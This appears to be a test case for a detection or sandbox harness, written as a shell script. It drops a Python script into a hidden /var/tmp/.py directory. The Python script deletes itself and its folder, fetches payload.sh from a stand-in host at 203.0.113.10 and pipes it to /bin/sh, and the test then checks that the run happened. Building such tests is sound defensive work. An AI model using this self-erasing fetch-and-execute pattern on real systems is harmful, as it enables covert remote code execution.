#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.py && cat >/var/tmp/.py/sync.py <<'END'
import os, shutil, subprocess, sys, time, urllib.request
os.unlink(__file__); shutil.rmtree(os.path.dirname(os.path.abspath(__file__))); time.sleep(0.5)
subprocess.run(["/bin/sh"], input=urllib.request.urlopen("http://203.0.113.10/payload.sh").read())
END
python3 /var/tmp/.py/sync.py
test ! -e /var/tmp/.py && test -e /tmp/reached
took_place
